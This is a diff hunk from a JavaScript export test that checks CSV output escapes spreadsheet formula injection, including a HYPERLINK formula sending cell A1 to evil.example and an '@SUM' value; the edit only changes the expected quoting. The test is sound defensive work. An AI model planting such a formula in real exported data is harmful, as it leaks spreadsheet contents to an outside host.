@@ -44,7 +44,7 @@ test('export: CSV and NDJSON of every event equal the CLI\'s; of a selected find
       assert.equal(csvRows(all.text).length, toInt(s0.tableCount, 'table-count'), 'one CSV row per matching event');
       const evil = csvRows(all.text).find((r) => r.includes('HYPERLINK'));
       assert.ok(evil.includes(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), evil);
-      assert.ok(evil.endsWith(',\'@SUM(1+1)'), evil);
+      assert.ok(evil.endsWith(',"\'@SUM(1+1)"'), evil);
       assert.match(await app.tid('export-status').textContent(), /events exported$/);
 
       const allJson = await exportVia(app, 'export-ndjson');
